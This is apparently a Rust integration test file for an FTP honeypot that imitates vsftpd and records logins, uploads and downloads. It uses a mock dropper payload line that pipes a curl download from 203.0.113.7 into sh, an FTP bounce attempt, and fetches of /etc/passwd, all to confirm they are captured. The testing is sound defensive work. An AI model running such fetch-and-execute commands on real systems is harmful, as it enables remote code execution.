//! The FTP decky against real clients: `lftp` and `curl` log in (the event's
//! principal and secret are what they sent), list, fetch a persona file and
//! upload over PASV, EPSV and PORT; uploads are found in the artifacts by
//! SHA-256 and in the session's later listing; `nmap -sV` calls it vsftpd.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use decnet_core::{Event, EventType};
use decnet_services::kit::line::{Eol, LineOutcome, LineReader, LineRule};
use decnet_services::shell::{Persona, State};
use sha2::{Digest, Sha256};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::process::Command;

use crate::harness::{decky, have, serve, svc, unique_ip, Served};

async fn start(dir: &Path, name: &str, persona: &[(&str, &str)]) -> Served {
    let d = decky(name, &unique_ip(), dir, vec![svc("ftp", persona)]);
    serve(d, "ftp").await
}

fn url(s: &Served, auth: &str, path: &str) -> String {
    format!("ftp://{auth}{}:{}/{path}", s.addr.ip(), s.addr.port())
}

async fn run(mut c: Command) -> std::process::Output {
    c.kill_on_drop(true).stdin(std::process::Stdio::null());
    tokio::time::timeout(Duration::from_secs(60), c.output())
        .await
        .expect("client finished in time")
        .expect("client ran")
}

fn curl(args: &[&str]) -> Command {
    let mut c = Command::new("curl");
    c.args(["-sS", "--max-time", "30"]).args(args);
    c
}

fn ok(out: &std::process::Output, what: &str) {
    assert!(
        out.status.success(),
        "{what} failed: {}\n{}",
        String::from_utf8_lossy(&out.stderr),
        String::from_utf8_lossy(&out.stdout)
    );
}

/// What the persona serves at `path`, built as the decky builds it.
fn persona_file(s: &Served, users: &[&str], path: &str) -> Vec<u8> {
    let p = Persona::for_decky(
        &s.decky,
        None,
        None,
        users.iter().map(|u| u.to_string()).collect(),
    );
    let user = users.first().copied().unwrap_or("root");
    State::new(p, user)
        .fs
        .read(path)
        .expect("persona file")
        .to_vec()
}

async fn event(s: &mut Served, t: EventType) -> Event {
    s.wait_type(t)
        .await
        .unwrap_or_else(|| panic!("no {t:?} event"))
}

#[tokio::test]
async fn lftp_logs_in_lists_fetches_and_uploads_over_pasv() {
    if !have("lftp") {
        eprintln!("skipped: lftp is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "ftp-lftp", &[("users", "deploy:Winter2024!")]).await;
    let upload = tmp.path().join("dropper.sh");
    let payload = b"#!/bin/sh\ncurl http://203.0.113.7/x | sh\n".repeat(50);
    std::fs::write(&upload, &payload).unwrap();
    let got = tmp.path().join("bashrc.out");
    let script = format!(
        "set ftp:ssl-allow no; set ftp:passive-mode on; set net:max-retries 1; set net:timeout 10; \
         ls; get .bashrc -o {}; put {} -o dropper.sh; cache flush; ls; bye",
        got.display(),
        upload.display()
    );
    let mut c = Command::new("lftp");
    c.env("HOME", tmp.path())
        .args(["-u", "deploy,Winter2024!", "-p", &s.addr.port().to_string()])
        .args(["-e", &script, &s.addr.ip().to_string()]);
    let out = run(c).await;
    ok(&out, "lftp");

    let login = event(&mut s, EventType::LoginSuccess).await;
    let cred = login.credential.expect("credential");
    assert_eq!(cred.principal, "deploy");
    assert_eq!(cred.secret_printable.as_deref(), Some("Winter2024!"));
    assert_eq!(login.fields["method"], "password");

    assert_eq!(
        std::fs::read(&got).unwrap(),
        persona_file(&s, &["deploy"], "/home/deploy/.bashrc"),
        "RETR serves the persona's file"
    );
    let dl = event(&mut s, EventType::FileDownload).await;
    assert_eq!(dl.fields["name"], "/home/deploy/.bashrc");

    let up = event(&mut s, EventType::FileUpload).await;
    let sha = hex::encode(Sha256::digest(&payload));
    assert_eq!(up.fields["sha256"], sha.as_str());
    assert_eq!(up.fields["size"], payload.len() as u64);
    assert_eq!(up.fields["truncated"], false);
    assert_eq!(up.fields["stored"], true);
    assert_eq!(up.fields["name"], "/home/deploy/dropper.sh");
    let kept = tmp.path().join("artifacts/ftp-lftp/ftp/uploads").join(&sha);
    assert_eq!(std::fs::read(kept).unwrap(), payload);

    // The first listing of the (dot-file only) home is empty; the second shows the upload.
    let listing = String::from_utf8_lossy(&out.stdout);
    let line = listing
        .lines()
        .find(|l| l.ends_with(" dropper.sh"))
        .unwrap_or_else(|| panic!("upload not listed: {listing}"));
    assert!(
        line.starts_with("-rw-------    1 1000     1000 "),
        "vsftpd's layout and umask: {line}"
    );
    assert!(line.contains(&format!(" {} ", payload.len())));
}

#[tokio::test]
async fn curl_anonymous_over_epsv_then_pasv_and_port() {
    if !have("curl") {
        eprintln!("skipped: curl is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "ftp-curl", &[]).await;
    // EPSV (curl's default), anonymous with curl's own address as the password.
    let out = run(curl(&["-T", "-", &url(&s, "", "loot.txt")])).await;
    ok(&out, "curl upload");
    let login = event(&mut s, EventType::LoginSuccess).await;
    let cred = login.credential.expect("credential");
    assert_eq!(cred.principal, "anonymous");
    assert_eq!(cred.secret_printable.as_deref(), Some("ftp@example.com"));
    assert_eq!(login.fields["anonymous"], true);
    let up = event(&mut s, EventType::FileUpload).await;
    assert_eq!(up.fields["name"], "/srv/ftp/loot.txt");
    assert_eq!(up.fields["size"], 0);

    // PASV and PORT listings of the anonymous jail, by hand through one session.
    let mut c = Control::connect(&s).await;
    c.send("USER ftp").await;
    assert_eq!(c.reply().await, "331 Please specify the password.");
    c.send("PASS mozilla@").await;
    assert_eq!(c.reply().await, "230 Login successful.");
    c.send("PWD").await;
    assert_eq!(c.reply().await, "257 \"/\" is the current directory");
    c.send("TYPE I").await;
    assert_eq!(c.reply().await, "200 Switching to Binary mode.");
    let mut data = c.pasv().await;
    c.send("STOR tool.bin").await;
    assert_eq!(c.reply().await, "150 Ok to send data.");
    data.write_all(b"bytes of a tool").await.unwrap();
    drop(data);
    assert_eq!(c.reply().await, "226 Transfer complete.");
    let mut data = c.pasv().await;
    c.send("NLST").await;
    assert_eq!(c.reply().await, "150 Here comes the directory listing.");
    let names = String::from_utf8(read_all(&mut data).await).unwrap();
    assert_eq!(c.reply().await, "226 Directory send OK.");
    assert_eq!(
        names, "tool.bin\r\n",
        "the session's upload, not another session's"
    );

    // Active mode: the decky connects back to the client, from its own address.
    let me = c.me();
    let listener = tokio::net::TcpListener::bind((me, 0)).await.unwrap();
    let p = listener.local_addr().unwrap().port();
    let std::net::IpAddr::V4(v4) = me else {
        panic!("IPv4 loopback expected")
    };
    let [a, b, cc, d] = v4.octets();
    c.send(&format!("PORT {a},{b},{cc},{d},{},{}", p >> 8, p & 0xff))
        .await;
    assert_eq!(
        c.reply().await,
        "200 PORT command successful. Consider using PASV."
    );
    c.send("RETR tool.bin").await;
    let (mut active, from) = listener.accept().await.unwrap();
    assert_eq!(
        from.ip(),
        s.addr.ip(),
        "the data connection comes from the decky"
    );
    assert_eq!(
        c.reply().await,
        "150 Opening BINARY mode data connection for tool.bin (15 bytes)."
    );
    assert_eq!(read_all(&mut active).await, b"bytes of a tool");
    assert_eq!(c.reply().await, "226 Transfer complete.");

    // A bounce: PORT towards a third host is refused like vsftpd, and recorded.
    c.send("PORT 10,9,8,7,0,25").await;
    assert_eq!(c.reply().await, "500 Illegal PORT command.");
    let bounce = s
        .wait_for(Duration::from_secs(20), |e| {
            e.event_type == EventType::ProtocolError && e.fields["reason"] == "ftp_bounce"
        })
        .await
        .expect("bounce recorded");
    assert_eq!(bounce.fields["target"], "10.9.8.7:25");
    c.send("QUIT").await;
    assert_eq!(c.reply().await, "221 Goodbye.");
}

#[tokio::test]
async fn curl_fetches_a_persona_file_over_pasv_and_a_listing_over_epsv() {
    if !have("curl") {
        eprintln!("skipped: curl is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "ftp-retr", &[]).await;
    let out = run(curl(&[
        "--disable-epsv",
        &url(&s, "admin:admin@", "%2Fetc/passwd"),
    ]))
    .await;
    ok(&out, "curl RETR over PASV");
    assert_eq!(out.stdout, persona_file(&s, &["admin"], "/etc/passwd"));
    let login = event(&mut s, EventType::LoginSuccess).await;
    let cred = login.credential.unwrap();
    assert_eq!(
        (cred.principal.as_str(), cred.secret_printable.as_deref()),
        ("admin", Some("admin"))
    );
    let dl = event(&mut s, EventType::FileDownload).await;
    assert_eq!(dl.fields["name"], "/etc/passwd");

    let out = run(curl(&[&url(&s, "admin:admin@", "%2Fetc/")])).await;
    ok(&out, "curl LIST over EPSV");
    let listing = String::from_utf8_lossy(&out.stdout);
    let passwd = listing
        .lines()
        .find(|l| l.ends_with(" passwd"))
        .unwrap_or_else(|| panic!("passwd not listed: {listing}"));
    assert!(
        passwd.starts_with("-rw-r--r--    1 0        0 "),
        "{passwd}"
    );
}

#[tokio::test]
async fn a_failed_login_is_recorded_with_what_the_client_sent() {
    if !have("curl") {
        eprintln!("skipped: curl is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "ftp-fail", &[("anonymous", "false")]).await;
    let out = run(curl(&[&url(&s, "root:hunter2@", "")])).await;
    assert_eq!(out.status.code(), Some(67), "curl's 'login denied'");
    let e = event(&mut s, EventType::LoginAttempt).await;
    let cred = e.credential.unwrap();
    assert_eq!(cred.principal, "root");
    assert_eq!(cred.secret_printable.as_deref(), Some("hunter2"));
    assert_eq!(cred.secret_b64, "aHVudGVyMg==");
    // With anonymous access off, the anonymous account is refused like any other.
    let out = run(curl(&[&url(&s, "", "")])).await;
    assert_eq!(out.status.code(), Some(67));
    let e = event(&mut s, EventType::LoginAttempt).await;
    assert_eq!(e.credential.unwrap().principal, "anonymous");
}

#[tokio::test]
async fn vsftpds_answers_before_and_after_login() {
    let tmp = tempfile::tempdir().unwrap();
    let s = start(tmp.path(), "ftp-dialogue", &[]).await;
    let hostname_size = format!(
        "213 {}",
        persona_file(&s, &["admin"], "/etc/hostname").len()
    );
    let mut c = Control::connect(&s).await;
    for (send, want) in [
        ("SYST", "530 Please login with USER and PASS."),
        ("PASS x", "503 Login with USER first."),
        ("FEAT", "211-Features:"),
    ] {
        c.send(send).await;
        assert_eq!(c.reply().await, want, "{send}");
    }
    for l in [
        " EPRT",
        " EPSV",
        " MDTM",
        " PASV",
        " REST STREAM",
        " SIZE",
        " TVFS",
        "211 End",
    ] {
        assert_eq!(c.reply().await, l);
    }
    c.send("USER admin").await;
    assert_eq!(c.reply().await, "331 Please specify the password.");
    c.send("PASS admin").await;
    assert_eq!(c.reply().await, "230 Login successful.");
    for (send, want) in [
        ("SYST", "215 UNIX Type: L8"),
        ("PWD", "257 \"/home/admin\" is the current directory"),
        ("CWD /nope", "550 Failed to change directory."),
        ("CWD /etc", "250 Directory successfully changed."),
        ("SIZE hostname", hostname_size.as_str()),
        ("SIZE nothere", "550 Could not get file size."),
        ("TYPE X", "500 Unrecognised TYPE command."),
        ("LIST", "425 Use PORT or PASV first."),
        ("EPSV 2", "522 Bad network protocol."),
        ("EPRT |1|10.0.0.9|40000|", "500 Illegal EPRT command."),
        ("EPRT |2|::1|40000|", "500 Bad EPRT protocol."),
        ("USER other", "530 Can't change to another user."),
        ("FOO bar", "500 Unknown command."),
        ("QUIT", "221 Goodbye."),
    ] {
        c.send(send).await;
        assert_eq!(c.reply().await, want, "{send}");
    }
}

#[tokio::test]
async fn the_third_wrong_password_ends_the_connection() {
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "ftp-fails", &[]).await;
    let mut c = Control::connect(&s).await;
    for i in 0..3 {
        c.send("USER admin").await;
        assert_eq!(c.reply().await, "331 Please specify the password.");
        c.send(&format!("PASS guess{i}")).await;
        assert_eq!(c.reply().await, "530 Login incorrect.");
    }
    assert!(c.eof().await, "closed after max_login_fails");
    for i in 0..3 {
        let e = event(&mut s, EventType::LoginAttempt).await;
        let secret = format!("guess{i}");
        assert_eq!(
            e.credential.unwrap().secret_printable.as_deref(),
            Some(secret.as_str())
        );
    }
}

#[tokio::test]
async fn nmap_calls_it_vsftpd() {
    if !have("nmap") {
        eprintln!("skipped: nmap is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let s = start(tmp.path(), "ftp-nmap", &[]).await;
    let mut c = Command::new("nmap");
    c.args(["-sV", "-Pn", "-n", "--version-light", "-p"])
        .arg(s.addr.port().to_string())
        .arg(s.addr.ip().to_string());
    let out = run(c).await;
    ok(&out, "nmap");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("vsftpd 3.0.5"), "nmap -sV said: {text}");
}

/// The real vsftpd on loopback next to the decky, one dialogue sent to both: every
/// reply must be the same bytes (passive ports aside). Runs where vsftpd is
/// installed and the test is root (vsftpd drops privileges to its `ftp` user).
#[tokio::test]
async fn the_dialogue_matches_the_real_vsftpd_byte_for_byte() {
    if !have("vsftpd") || !decnet_testkit::is_root() {
        eprintln!("skipped: needs vsftpd installed and root");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let real = match RealVsftpd::start(tmp.path()) {
        Some(r) => r,
        None => {
            eprintln!("skipped: vsftpd did not start (no `ftp` user or PAM config?)");
            return;
        }
    };
    let decky = Arc::new(decnet_services::DeckyRuntime {
        config: decnet_core::config::model::DeckyConfig {
            name: "ftp-real".into(),
            ip: unique_ip().parse().unwrap(),
            hostname: "ftp-real-host".into(),
            os_family: decnet_core::persona::OsFamily::Linux,
            distro: decnet_core::persona::distro("debian").unwrap(),
            windows: None,
            archetype: None,
            services: vec![svc("ftp", &[])],
        },
        seed: decnet_core::seed::InstanceSeed::derive_for(b"test-installation", "ftp-real"),
        data_dir: tmp.path().to_path_buf(),
        limits: decnet_core::config::model::Limits::DEFAULT,
        bait: Default::default(),
        prefix: 24,
    });
    let ours = serve(decky, "ftp").await;
    let dialogue = [
        "FEAT",
        "SYST",
        "PWD",
        "PASS x",
        "AUTH TLS",
        "OPTS UTF8 ON",
        "OPTS foo",
        "PORT 127,0,0,1,200,10",
        "USER nosuchuser",
        "PASS wrong",
        "PASS again",
        "USER anonymous",
        "PASS probe@example.com",
        "PWD",
        "SYST",
        "TYPE I",
        "TYPE X",
        "TYPE A",
        "MODE S",
        "MODE B",
        "STRU F",
        "STRU R",
        "SIZE nothere",
        "MDTM nothere",
        "CWD /nope",
        "CWD /",
        "CDUP",
        "NOOP",
        "USER bob",
        "PASS y",
        "REST 10",
        "ABOR",
        "SITE HELP",
        "ALLO 10",
        "ACCT x",
        "SMNT x",
        "REIN",
        "STOU",
        "RETR nothere",
        "LIST",
        "NLST",
        "EPSV 2",
        "EPRT |2|::1|4000|",
        "EPRT x",
        "PORT 1,2",
        "HELP",
        "AUTH TLS",
        "FOO bar",
        "PASV",
        "RETR nothere",
        "EPSV",
        "EPSV ALL",
        "PASV",
        "PORT 1,2",
        "QUIT",
    ];
    let a = transcript(real.addr, &dialogue).await;
    let b = transcript(ours.addr, &dialogue).await;
    assert_eq!(a.len(), b.len());
    for ((sent, want), (_, got)) in a.iter().zip(&b) {
        assert_eq!(got, want, "after {sent:?}");
    }
}

/// `vsftpd` run from a config of its own, killed on drop.
struct RealVsftpd {
    child: std::process::Child,
    addr: std::net::SocketAddr,
}

impl RealVsftpd {
    fn start(dir: &Path) -> Option<RealVsftpd> {
        use std::os::unix::fs::PermissionsExt;
        let ip = unique_ip();
        let port = decnet_testkit::free_port();
        let anon = dir.join("anon");
        let empty = dir.join("empty");
        for d in [&anon, &empty] {
            std::fs::create_dir_all(d).unwrap();
            std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        let conf = dir.join("vsftpd.conf");
        std::fs::write(
            &conf,
            format!(
                "listen=YES\nlisten_address={ip}\nlisten_port={port}\nbackground=NO\n\
                 anonymous_enable=YES\nlocal_enable=YES\nwrite_enable=YES\n\
                 anon_root={}\nsecure_chroot_dir={}\npam_service_name=vsftpd\n\
                 seccomp_sandbox=NO\n",
                anon.display(),
                empty.display()
            ),
        )
        .unwrap();
        let child = std::process::Command::new("vsftpd")
            .arg(&conf)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .ok()?;
        let real = RealVsftpd {
            child,
            addr: std::net::SocketAddr::new(ip.parse().unwrap(), port),
        };
        let up = (0..100).any(|_| {
            if std::net::TcpStream::connect(real.addr).is_ok() {
                return true;
            }
            std::thread::sleep(Duration::from_millis(50));
            false
        });
        up.then_some(real)
    }
}

impl Drop for RealVsftpd {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Each line sent and the whole reply it got (multi-line replies joined), with
/// passive ports, which are random on both sides, written as `P`.
async fn transcript(addr: std::net::SocketAddr, lines: &[&str]) -> Vec<(String, String)> {
    let t = TcpStream::connect(addr).await.unwrap();
    let mut c = Control {
        r: LineReader::new(t, LineRule::new(4096, Eol::Crlf)),
        ip: addr.ip(),
    };
    let mut out = vec![("".to_owned(), c.whole_reply().await)];
    for l in lines {
        c.send(l).await;
        let mut reply = c.whole_reply().await;
        if let Some(rest) = reply.strip_prefix("227 Entering Passive Mode (") {
            let n: Vec<&str> = rest.split(',').collect();
            assert_eq!(n.len(), 6, "{reply}");
            let ip: Vec<String> = addr
                .ip()
                .to_string()
                .split('.')
                .map(str::to_owned)
                .collect();
            assert_eq!(n[..4], ip[..], "the server's own address: {reply}");
            reply = "227 Entering Passive Mode (A,P,P).".into();
        } else if reply.starts_with("229 Entering Extended Passive Mode (|||") {
            reply = "229 Entering Extended Passive Mode (|||P|)".into();
        }
        out.push((l.to_string(), reply));
    }
    out
}

/// Everything a data connection sends, up to 1 MiB (more is a failure).
async fn read_all(s: &mut TcpStream) -> Vec<u8> {
    let mut out = Vec::new();
    let mut buf = [0u8; 8192];
    loop {
        let n = tokio::time::timeout(Duration::from_secs(20), s.read(&mut buf))
            .await
            .expect("data in time")
            .unwrap();
        if n == 0 {
            return out;
        }
        out.extend_from_slice(&buf[..n]);
        assert!(out.len() <= 1 << 20, "runaway data connection");
    }
}

/// A hand-driven control connection.
struct Control {
    r: LineReader<TcpStream>,
    ip: std::net::IpAddr,
}

impl Control {
    async fn connect(s: &Served) -> Control {
        let t = TcpStream::connect(s.addr).await.unwrap();
        let mut c = Control {
            r: LineReader::new(t, LineRule::new(4096, Eol::Crlf)),
            ip: s.addr.ip(),
        };
        assert_eq!(c.reply().await, "220 (vsFTPd 3.0.5)");
        c
    }

    /// The client's own address, which PORT must name.
    fn me(&self) -> std::net::IpAddr {
        self.r.get_ref().local_addr().unwrap().ip()
    }

    async fn send(&mut self, line: &str) {
        let mut b = line.as_bytes().to_vec();
        b.extend_from_slice(b"\r\n");
        self.r.get_mut().write_all(&b).await.unwrap();
    }

    /// One reply, all its lines (`211-…` up to `211 …`) joined by `\n`.
    async fn whole_reply(&mut self) -> String {
        let first = self.reply().await;
        let Some(code) = first
            .get(..3)
            .filter(|_| first.as_bytes().get(3) == Some(&b'-'))
        else {
            return first;
        };
        let end = format!("{code} ");
        let mut all = first.clone();
        loop {
            let l = self.reply().await;
            all.push('\n');
            all.push_str(&l);
            if l.starts_with(&end) {
                return all;
            }
        }
    }

    /// One CRLF-terminated reply line.
    async fn reply(&mut self) -> String {
        let o = tokio::time::timeout(Duration::from_secs(20), self.r.read_line())
            .await
            .expect("a reply in time")
            .unwrap();
        match o {
            LineOutcome::Line(l) => String::from_utf8(l.to_vec()).unwrap(),
            other => panic!("no reply line: {other:?}"),
        }
    }

    async fn eof(&mut self) -> bool {
        let o = tokio::time::timeout(Duration::from_secs(20), self.r.read_line())
            .await
            .expect("closed in time");
        matches!(o, Ok(LineOutcome::Eof) | Err(_))
    }

    /// `PASV`, and the data connection to the port it named (on the decky's address).
    async fn pasv(&mut self) -> TcpStream {
        self.send("PASV").await;
        let r = self.reply().await;
        let inner = r
            .strip_prefix("227 Entering Passive Mode (")
            .and_then(|x| x.strip_suffix(")."))
            .unwrap_or_else(|| panic!("not a PASV answer: {r}"));
        let n: Vec<u16> = inner.split(',').map(|x| x.parse().unwrap()).collect();
        let ip: std::net::IpAddr = format!("{}.{}.{}.{}", n[0], n[1], n[2], n[3])
            .parse()
            .unwrap();
        assert_eq!(ip, self.ip, "the decky's own address");
        TcpStream::connect((ip, n[4] * 256 + n[5])).await.unwrap()
    }
}
